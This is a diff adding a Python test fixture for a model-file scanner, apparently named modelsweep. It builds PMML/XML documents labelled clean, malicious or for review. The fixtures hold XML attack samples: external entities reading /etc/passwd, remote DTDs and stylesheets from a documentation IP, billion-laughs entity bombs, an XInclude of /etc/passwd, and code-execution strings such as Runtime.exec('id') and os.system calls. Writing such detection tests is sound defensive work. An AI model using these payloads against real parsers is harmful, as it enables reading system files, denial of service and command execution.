@@ -1,0 +1,113 @@
+"""PMML that would make a parser fetch, expand or run something, and documents of real exporters that look like it."""
+
+from __future__ import annotations
+
+from collections.abc import Callable
+
+from modelsweep.core.report import Verdict
+from tests.scanners.case import Case
+
+HEADER = '<Header><Application name="Nyoka" version="5.5.0"/></Header>'
+FIELDS = (
+    '<DataDictionary numberOfFields="2"><DataField name="x" optype="continuous" dataType="double"/>'
+    '<DataField name="eval(x)" optype="continuous" dataType="double"/></DataDictionary>'
+)
+TREE = (
+    '<TreeModel functionName="regression"><MiningSchema><MiningField name="x"/></MiningSchema>'
+    '<Node id="0"><True/><Node id="1" score="1"><SimplePredicate field="x" operator="lessOrEqual" value="0.5"/></Node>'
+    "</Node></TreeModel>"
+)
+DECLARATION = '<?xml version="1.0" encoding="UTF-8"?>\n'
+
+
+def document(*inner: str, before: str = "", declaration: str = DECLARATION, attributes: str = "") -> bytes:
+    """Return a model with more elements, and with what stands `before` its root."""
+    root = f'<PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4.1"{attributes}>'
+    return f"{declaration}{before}{root}{HEADER}{FIELDS}{''.join(inner)}{TREE}</PMML>\n".encode()
+
+
+def extension(**attributes: str) -> str:
+    """Return an extension, as every exporter adds some."""
+    written = " ".join(f'{key}="{value}"' for key, value in attributes.items())
+    return f"<Extension {written}/>"
+
+
+def applied(function: str) -> str:
+    """Return a field that a function makes."""
+    field = f'<DerivedField name="y" optype="continuous" dataType="double"><Apply function="{function}">'
+    return f'<TransformationDictionary>{field}<FieldRef field="x"/></Apply></DerivedField></TransformationDictionary>'
+
+
+def laughs(levels: int = 9) -> str:
+    """Return a document type whose entities expand tenfold each."""
+    declared = ['<!ENTITY lol0 "lol">']
+    declared += [f'<!ENTITY lol{level} "{f"&lol{level - 1};" * 10}">' for level in range(1, levels + 1)]
+    return f"<!DOCTYPE PMML [{''.join(declared)}]>"
+
+
+def wide() -> bytes:
+    """Return a document in UTF-16 with an entity."""
+    text = document(before='<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]>', declaration="").decode()
+    return text.encode("utf-16")
+
+
+def deep() -> bytes:
+    """Return a script, and extensions inside extensions, deeper than any exporter goes."""
+    return document("<script/>" + "<Extension>" * 2_000 + "</Extension>" * 2_000)
+
+
+def case(build: Callable[[], bytes], verdict: Verdict, name: str = "model.pmml") -> Case:
+    """Return the case of a document."""
+    return Case(build, name, verdict)
+
+
+DTD = '<!DOCTYPE PMML PUBLIC "PMML 2.0" "http://www.dmg.org/v2-0/pmml_v2_0.dtd">'
+INCLUDE = ' xmlns:xi="http://www.w3.org/2001/XInclude"'
+XSL = ' xmlns:xsl="http://www.w3.org/1999/XSL/Transform"'
+
+CASES = {
+    "benign": case(lambda: document().rstrip(), Verdict.CLEAN),
+    "benign_other_name": case(lambda: document().rstrip(), Verdict.CLEAN, "model.xml"),
+    "benign_utf_16": case(lambda: document(declaration="").decode().rstrip().encode("utf-16"), Verdict.CLEAN),
+    "benign_own_dtd": case(lambda: document(before=DTD).rstrip(), Verdict.CLEAN),
+    "benign_extensions": case(
+        lambda: document(
+            extension(extender="acme", name="evaluation", value="exec summary"), applied("x-upper")
+        ).rstrip(),
+        Verdict.CLEAN,
+    ),
+    "benign_class_function": case(lambda: document(applied("com.acme.Scale")).rstrip(), Verdict.CLEAN),
+    "external_entity": case(
+        lambda: document("&x;", before='<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]>'), Verdict.MALICIOUS
+    ),
+    "external_entity_utf_16": case(wide, Verdict.MALICIOUS),
+    "parameter_entity": case(
+        lambda: document(before='<!DOCTYPE PMML [<!ENTITY % x SYSTEM "http://192.0.2.1/x.dtd"> %x;]>'),
+        Verdict.MALICIOUS,
+    ),
+    "entity_bomb": case(lambda: document("&lol9;", before=laughs()), Verdict.MALICIOUS),
+    "entity_bomb_in_attribute": case(
+        lambda: document(before=laughs().replace("]>", '<!ATTLIST PMML v CDATA "&lol9;">]>')), Verdict.MALICIOUS
+    ),
+    "entity": case(lambda: document(before='<!DOCTYPE PMML [<!ENTITY company "Acme">]>'), Verdict.REVIEW),
+    "external_dtd": case(lambda: document(before='<!DOCTYPE PMML SYSTEM "http://192.0.2.1/x.dtd">'), Verdict.REVIEW),
+    "include": case(
+        lambda: document('<xi:include href="/etc/passwd" parse="text"/>', attributes=INCLUDE), Verdict.REVIEW
+    ),
+    "stylesheet": case(
+        lambda: document(before='<?xml-stylesheet type="text/xsl" href="http://192.0.2.1/x.xsl"?>'), Verdict.REVIEW
+    ),
+    "transformation": case(lambda: document('<xsl:value-of select="document(1)"/>', attributes=XSL), Verdict.REVIEW),
+    "script_element": case(lambda: document("<Extension><script>1 + 1</script></Extension>"), Verdict.REVIEW),
+    "script_in_extension": case(
+        lambda: document("<Extension><![CDATA[java.lang.Runtime.getRuntime().exec('id')]]></Extension>"), Verdict.REVIEW
+    ),
+    "script_in_attribute": case(
+        lambda: document(extension(name="init", value="__import__('os').system('echo modelsweep-test')")),
+        Verdict.REVIEW,
+    ),
+    "class_runs": case(lambda: document(applied("java.lang.Runtime.exec")), Verdict.REVIEW),
+    "deep": case(deep, Verdict.REVIEW),
+    "other_root": case(lambda: b"<html><body/></html>", Verdict.NOT_SCANNED),
+    "no_xml": case(lambda: b"weights of a model", Verdict.NOT_SCANNED),
+}
